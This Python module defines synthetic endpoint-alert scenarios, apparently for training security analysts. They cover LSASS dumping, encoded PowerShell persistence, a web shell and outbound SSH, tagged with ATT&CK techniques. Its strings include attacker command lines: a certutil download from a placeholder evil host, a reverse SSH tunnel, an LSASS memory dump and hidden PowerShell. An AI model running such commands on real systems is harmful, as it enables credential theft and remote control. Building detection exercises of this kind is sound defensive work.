"""Stories about workstations and servers that somebody misuses."""

from .clues import (
    DeviceClue,
    FileClue,
    IpClue,
    ProcessClue,
    RegistryKeyClue,
    UrlClue,
    UserClue,
    Verdict,
    Where,
    Who,
)
from .sensors import (
    CUSTOM,
    ENDPOINT,
)
from .shape import (
    Ending,
    Scenario,
    Severity,
    Stage,
)

# A table: each alert is one block, read downwards.
# fmt: off

LSASS_READ = Scenario(
    "lsass-read",
    "LSASS memory read by unsigned binary",
    (
        Stage(
            "lsass.exe memory read by wsdiag.exe",
            "A program without signature opened the process that keeps credentials and read its memory.",
            ENDPOINT, Severity.HIGH, "CredentialAccess", ("T1003.001",), "credentials",
            (DeviceClue(), UserClue(),
             ProcessClue("wsdiag.exe", "wsdiag.exe -p lsass -o C:\\ProgramData\\d.bin", "cmd.exe",
                         verdict=Verdict.MALICIOUS),
             FileClue("wsdiag.exe", "C:\\ProgramData"), FileClue("d.bin", "C:\\ProgramData")),
        ),
        Stage(
            "Pass-the-hash sign-in from {device} to {server}",
            "An account signed in to a server with a hash in place of a password.",
            ENDPOINT, Severity.HIGH, "LateralMovement", ("T1550.002",), "credentials",
            (DeviceClue(role="source"), DeviceClue(Where.SERVER, Verdict.SUSPICIOUS, "destination"),
             UserClue(Who.SERVICE, Verdict.MALICIOUS)),
            wait=(4, 22),
        ),
    ),
    (Ending.ATTACK, Ending.TEST),
    weight=4,
)

ENCODED_TASK = Scenario(
    "encoded-task",
    "Scheduled task starts encoded PowerShell",
    (
        Stage(
            "Encoded PowerShell command on {device}",
            "PowerShell was started with a command hidden in Base64. Administrators rarely do that by hand.",
            ENDPOINT, Severity.MEDIUM, "Execution", ("T1059.001", "T1027.010"), "endpoint",
            (DeviceClue(), UserClue(),
             ProcessClue("powershell.exe", "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAA=",
                         "cmd.exe")),
        ),
        Stage(
            "Scheduled task created by {account}",
            "A task that starts at every sign-in was added outside the usual software distribution.",
            ENDPOINT, Severity.MEDIUM, "Persistence", ("T1053.005",), "endpoint",
            (DeviceClue(),
             ProcessClue("schtasks.exe",
                         "schtasks /create /sc onlogon /tn CacheSync /tr C:\\ProgramData\\sync.ps1",
                         "powershell.exe"),
             FileClue("sync.ps1", "C:\\ProgramData", verdict=Verdict.SUSPICIOUS),
             RegistryKeyClue("HKEY_LOCAL_MACHINE",
                             "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\"
                             "TaskCache\\Tree\\CacheSync")),
            wait=(1, 6),
        ),
        Stage(
            "The same scheduled task on {second}",
            "The task was found on a second machine within the hour.",
            CUSTOM, Severity.MEDIUM, "LateralMovement", ("T1053.005", "T1021.006"), "endpoint",
            (DeviceClue(Where.SECOND),
             FileClue("sync.ps1", "C:\\ProgramData", Where.SECOND, Verdict.SUSPICIOUS)),
            wait=(10, 50),
        ),
    ),
    (Ending.ATTACK, Ending.HARMLESS, Ending.HARMLESS),
    weight=10,
)

REMOTE_TOOL = Scenario(
    "remote-tool",
    "Remote management tool outside the catalog",
    (
        Stage(
            "Remote management tool installed on {device}",
            "A tool for remote control that the organization does not use was installed by {account}.",
            ENDPOINT, Severity.MEDIUM, "CommandAndControl", ("T1219",), "endpoint",
            (DeviceClue(verdict=Verdict.UNKNOWN), UserClue(role="policyViolator"),
             FileClue("farview_host.exe", verdict=Verdict.SUSPICIOUS, publisher="Farview Remote Ltd"),
             ProcessClue("farview_host.exe", "farview_host.exe --unattended", "explorer.exe",
                         folder="C:\\Program Files\\Farview"),
             IpClue(verdict=Verdict.UNKNOWN, role="destination")),
        ),
    ),
    (Ending.UNWANTED, Ending.HARMLESS),
    weight=11,
)

WEB_SHELL = Scenario(
    "web-shell",
    "Web server of {org} starts a command shell",
    (
        Stage(
            "Script file written to the web root of {server}",
            "The web server itself wrote a script where only the deployment should write.",
            ENDPOINT, Severity.MEDIUM, "Persistence", ("T1505.003",), "endpoint",
            (DeviceClue(Where.SERVER), FileClue("health2.aspx", "C:\\inetpub\\wwwroot\\status", Where.SERVER),
             IpClue(verdict=Verdict.MALICIOUS)),
        ),
        Stage(
            "w3wp.exe started cmd.exe on {server}",
            "The worker process of the web server started a command shell that asked for the name of the "
            "account.",
            ENDPOINT, Severity.HIGH, "Execution", ("T1190", "T1059.003"), "endpoint",
            (DeviceClue(Where.SERVER, Verdict.MALICIOUS), UserClue(Who.SERVICE),
             ProcessClue("cmd.exe", "cmd.exe /c whoami & ipconfig /all", "w3wp.exe", Where.SERVER,
                         Who.SERVICE,
                         Verdict.MALICIOUS)),
            wait=(0.5, 12),
        ),
        Stage(
            "certutil.exe downloaded a file to {server}",
            "A certificate tool was used to fetch a program from the web.",
            ENDPOINT, Severity.HIGH, "CommandAndControl", ("T1105",), "endpoint",
            (DeviceClue(Where.SERVER),
             ProcessClue("certutil.exe", "certutil -urlcache -f https://{evil}/p.exe p.exe", "cmd.exe",
                         Where.SERVER,
                         Who.SERVICE, Verdict.MALICIOUS),
             FileClue("p.exe", "C:\\Windows\\Temp", Where.SERVER), UrlClue("https://{evil}/p.exe")),
            wait=(0.5, 6),
        ),
    ),
    (Ending.ATTACK, Ending.TEST),
    weight=3,
    tags=("Crown jewel",),
)

USB_STORAGE = Scenario(
    "usb-storage",
    "USB storage used on {station}",
    (
        Stage(
            "Removable storage connected to {station}",
            "Device control allows storage there by exception only; no exception is on record.",
            CUSTOM, Severity.LOW, "Exfiltration", ("T1052.001", "T1091"), "data",
            (DeviceClue(Where.STATION, Verdict.UNKNOWN, "policyViolator"),
             UserClue(verdict=Verdict.UNKNOWN, role="policyViolator"),
             FileClue("{document}", "E:\\", Where.STATION, Verdict.UNKNOWN)),
        ),
    ),
    (Ending.HARMLESS, Ending.INSIDER),
    weight=9,
)

LINUX_SSH = Scenario(
    "outbound-ssh",
    "{server} starts outbound SSH",
    (
        Stage(
            "Outbound SSH from {server} to {ip}",
            "A server that only answers opened a tunnel to an address outside.",
            ENDPOINT, Severity.MEDIUM, "CommandAndControl", ("T1572", "T1021.004"), "endpoint",
            (DeviceClue(Where.SERVER), UserClue(Who.SERVICE),
             ProcessClue("ssh", "ssh -N -R 2222:127.0.0.1:22 relay@{ip}", "bash", Where.SERVER, Who.SERVICE),
             IpClue(role="destination")),
        ),
    ),
    (Ending.HARMLESS, Ending.ATTACK),
    weight=6,
)

SCENARIOS = (LSASS_READ, ENCODED_TASK, REMOTE_TOOL, WEB_SHELL, USB_STORAGE, LINUX_SSH)
